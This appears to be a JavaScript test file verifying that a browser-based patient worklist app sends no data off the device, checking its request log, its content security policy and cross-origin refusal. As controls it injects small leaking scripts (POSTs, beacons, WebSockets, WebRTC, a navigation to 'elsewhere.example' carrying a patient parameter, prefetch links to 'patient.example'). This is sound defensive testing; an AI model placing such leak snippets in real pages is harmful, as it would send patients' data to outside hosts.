// Nothing leaves the device: a whole job is recorded below the page, and every request in it is a GET
// of a file of the build. The same checker is then shown pages that leak, one by each door.

import assert from "node:assert/strict";
import { cpSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import test from "node:test";
import { DIST, browse, scratch, serve } from "./harness.mjs";
import { allowed, leaks, recorded } from "./requests.mjs";
import { sample } from "./studies.mjs";
import { WorklistPage } from "./worklist_page.mjs";

test("loading, dropping, scoring, the sample study and the evidence room send nothing but GETs of the build's own files", async (t) => {
  const { origin, log } = await serve(t);
  const folder = sample(t);
  const requests = await recorded(t, origin, async (context) => {
    for (const begin of [(worklist) => worklist.drop(folder), (worklist) => worklist.by("sample-button").click()]) {
      const worklist = await WorklistPage.open(context, origin);
      await begin(worklist);
      const [row] = await worklist.settled(1);
      assert.equal(row.state, "scored");
      await evidence(worklist);
    }
  });
  assert.deepEqual(leaks(requests, allowed(DIST, origin)), []);

  // Two witnesses: what the server was asked for is what the browser's log holds.
  const asked = log();
  assert.ok(asked.length > 3, "the page is made of several files");
  for (const { method, url, bodyBytes } of asked) {
    assert.deepEqual([method, bodyBytes], ["GET", 0], url);
    assert.ok(requests.some((request) => request.url.split("#")[0] === origin + url), `${url} is missing in the browser's log`);
  }
});

/** Every part of the evidence room, with its fields, and an answer. */
async function evidence(worklist) {
  await worklist.by("open-evidence").click();
  for (const part of ["Labels from reports", "Over time", "The paper", "Reporting times"]) await worklist.page.getByRole("tab", { name: part }).click();
  await worklist.by("example").click();
  await worklist.by("ask").click();
  await worklist.by("report").waitFor();
}

const CONTROLS = [
  { door: "a posted byte", script: `fetch("/", { method: "POST", body: "1" });`, caught: /^POST to/ },
  { door: "a query", script: `fetch("/?patient=1");`, caught: /^GET of .*patient/ },
  { door: "a beacon", script: `navigator.sendBeacon("/", "1");`, caught: /^POST to/ },
  { door: "a WebSocket", script: `new WebSocket("ws://" + location.host);`, caught: /^GET of ws:/ },
  { door: "a worker", script: `new Worker("worker.js");`, caught: /^POST to/ },
  { door: "a navigation", script: `location.href = "https://elsewhere.example/?patient=1";`, caught: /^GET of https:\/\/elsewhere/ },
  // Chromium describes the fields of a page to its maker's servers, which fill them in.
  { door: "a text field", script: `document.body.append(document.createElement("input"));`, caught: /autofill/ },
  { door: "a name look-up", script: link("dns-prefetch"), caught: /^name look-up/ },
  { door: "a connection", script: link("preconnect"), caught: /^name look-up/ },
  {
    door: "WebRTC",
    script: `const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:3478" }] });
             peer.createDataChannel("leak");
             await peer.setLocalDescription(await peer.createOffer());`,
    caught: /^datagram to 127/,
  },
];

function link(rel) {
  return `document.head.append(Object.assign(document.createElement("link"), { rel: "${rel}", href: "https://patient.example" }));`;
}

for (const { door, script, caught } of CONTROLS) {
  test(`the checker catches a page that leaks by ${door}`, async (t) => {
    const dir = leaking(scratch(t), script);
    const { origin } = await serve(t, dir);
    const requests = await recorded(t, origin, async (context) => {
      const page = await context.newPage();
      await page.goto(origin);
      await page.waitForTimeout(2_000);
    });
    const own = allowed(dir, origin).add(`${origin}/leak.js`).add(`${origin}/worker.js`);
    const found = leaks(requests, own);
    assert.ok(found.length > 0, "the leak was not noticed");
    assert.match(found[0], caught);
  });
}

/** A copy of the page with one script more. */
function leaking(folder, script) {
  cpSync(DIST, folder, { recursive: true });
  const index = readFileSync(join(DIST, "index.html"), "utf8");
  writeFileSync(join(folder, "index.html"), index.replace("</head>", `<script type="module" src="leak.js"></script></head>`));
  writeFileSync(join(folder, "leak.js"), script);
  writeFileSync(join(folder, "worker.js"), `fetch("/", { method: "POST", body: "1" });`);
  return folder;
}

/** Directive by directive. A looser policy, or one directive more, is a decision to be made here too. */
const POLICY = [
  "base-uri 'none'",
  "connect-src 'self'",
  "default-src 'none'",
  "form-action 'none'",
  "frame-ancestors 'none'",
  "img-src 'self' blob: data:",
  "manifest-src 'self'",
  "script-src 'self' 'wasm-unsafe-eval'",
  "style-src 'self'",
  "worker-src 'self'",
];

test("the page is served with the headers that hold it to its promise", async (t) => {
  const { origin } = await serve(t);
  const { headers } = await fetch(origin);
  const policy = headers.get("content-security-policy").split(";").map((directive) => directive.trim());
  assert.deepEqual(policy.sort(), POLICY);
  assert.equal(headers.get("cross-origin-opener-policy"), "same-origin");
  assert.equal(headers.get("cross-origin-embedder-policy"), "require-corp");
  assert.equal(headers.get("referrer-policy"), "no-referrer");
  assert.equal(headers.get("x-content-type-options"), "nosniff");
});

test("the browser refuses a request of the page to another origin", async (t) => {
  const [page, elsewhere] = [await serve(t), await serve(t)];
  const context = await browse(t);
  const opened = await context.newPage();
  await opened.goto(page.origin);
  const ask = (url) => opened.evaluate((url) => fetch(url, { mode: "no-cors" }).then(() => "answered", () => "refused"), url);
  assert.equal(await ask(elsewhere.origin), "refused");
  assert.equal(await ask(page.origin), "answered");
  assert.deepEqual(elsewhere.log(), []);
});
